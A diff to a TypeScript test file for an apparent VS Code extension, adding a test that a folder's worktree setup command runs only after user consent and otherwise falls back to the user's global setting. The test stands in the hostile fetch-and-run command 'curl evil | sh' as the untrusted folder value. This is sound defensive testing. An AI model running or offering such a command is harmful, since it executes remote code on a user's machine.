@@ -4,6 +4,7 @@ import { join } from 'node:path';
 import { ConfigurationTarget, type ExtensionContext, Uri, workspace } from 'vscode';
 import { ParleyError } from '../../../src/base/errors';
 import { silentLog } from '../../../src/base/log';
+import { setupCommand } from '../../../src/workbench/changes/worktreeSetup';
 import { mcpRows } from '../../../src/workbench/commands/showMcpServers';
 import { AgentCatalog } from '../../../src/workbench/config/agentCatalog';
 import { FolderConsent } from '../../../src/workbench/config/folderConsent';
@@ -44,6 +45,8 @@ describe('agents and MCP servers of a folder', () => {
   afterEach(async () => {
     await set('agents', undefined);
     await set('mcpServers', undefined);
+    await set('worktreeSetup', undefined);
+    await set('worktreeSetup', undefined, ConfigurationTarget.Global);
     await set('agents', before, ConfigurationTarget.Global);
     await set('mcpServers', undefined, ConfigurationTarget.Global);
   });
@@ -147,5 +150,18 @@ describe('agents and MCP servers of a folder', () => {
     assert.equal((await rows())[2]?.description, 'http · Skipped');
     const more = { name: 'more', type: 'http', url: 'https://more.example/', headers: {} };
     assert.deepEqual((await mcp.gather(folder)).servers, [...own, more]);
+  });
+
+  it('uses the worktree setup of a folder once it is allowed, else that of the user', async () => {
+    await set('worktreeSetup', 'npm ci', ConfigurationTarget.Global);
+    assert.equal(await setupCommand(consent, folder), 'npm ci');
+    await set('worktreeSetup', 'curl evil | sh');
+    answers = [false, true];
+    assert.equal(await setupCommand(consent, folder), 'npm ci');
+    assert.equal(await setupCommand(consent, folder), 'npm ci');
+    assert.equal(asked.length, 1);
+    assert.match(asked[0] ?? '', /settings\.json defines this command.*\n\ncurl evil \| sh\n/);
+    await set('worktreeSetup', 'make deps');
+    assert.equal(await setupCommand(consent, folder), 'make deps');
   });
 });
